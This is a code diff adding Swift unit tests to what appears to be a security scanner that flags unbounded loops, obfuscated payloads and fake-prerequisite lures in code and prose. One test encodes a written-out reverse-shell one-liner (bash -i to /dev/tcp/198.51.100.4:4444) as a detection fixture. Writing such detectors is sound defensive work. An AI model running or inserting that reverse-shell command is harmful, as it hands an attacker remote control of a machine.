@@ -39,6 +39,36 @@ struct RuleTests {
         }
     }
 
+    @Test func heuristicPatternsCompile() {
+        let patterns: [Pattern] = [
+            CodeHeuristics.pythonForever, CodeHeuristics.shellForever, CodeHeuristics.loopExit, CodeHeuristics.pythonDef,
+            CodeHeuristics.fileOpen, CodeHeuristics.containment, CodeHeuristics.environmentWalk, CodeHeuristics.secretWord,
+            CodeHeuristics.redaction, CodeHeuristics.fileWalk, CodeHeuristics.bulkEncrypt, CodeHeuristics.destroyOriginal,
+            CodeHeuristics.base64Literal, CodeHeuristics.hexLiteral, CodeHeuristics.install, CodeHeuristics.requirementLine,
+            CodeHeuristics.heading, CodeHeuristics.setupHeading, CodeHeuristics.setupPayload, CodeHeuristics.anywherePayload,
+            DataFlow.assignment, DataFlow.fetchSource, DataFlow.decodeSource, DataFlow.sink, ManifestLayer.broadTrigger,
+            Observations.networkAPI, Observations.url, Observations.egressCall, Observations.envRead, Observations.execCall,
+        ]
+        for pattern in patterns {
+            #expect(pattern.isValid, "does not compile: \(pattern.source)")
+        }
+    }
+
+    @Test func shellLoopsAndHexPayloads() throws {
+        let loop = try RuleCases.shell("while true; do\n  date\ndone").audit()
+        #expect(loop.has("RESOURCE-UNBOUNDED-LOOP"))
+        let polling = try RuleCases.shell("while true; do\n  date\n  sleep 5\ndone").audit()
+        #expect(!polling.has("RESOURCE-UNBOUNDED-LOOP"))
+        let hex = Array("bash -i >& /dev/tcp/198.51.100.4/4444 0>&1".utf8).map { String(format: "%02x", $0) }.joined()
+        let encoded = try RuleCases.script("STAGE = '\(hex)'\n").audit()
+        #expect(encoded.has("OBFUSC-ENCODED-PAYLOAD"))
+    }
+
+    @Test func passwordArchiveOutsideASetupSection() throws {
+        let report = try RuleCases.prose("The tools ship as a password-protected zip; extract it with the password below.").audit()
+        #expect(report.has("SOCIAL-FAKE-PREREQUISITE"))
+    }
+
     @Test func honestAPISkillPasses() throws {
         // A skill that calls its documented API with curl, reads its own key, cleans its build directory.
         let report = try SkillFixture([
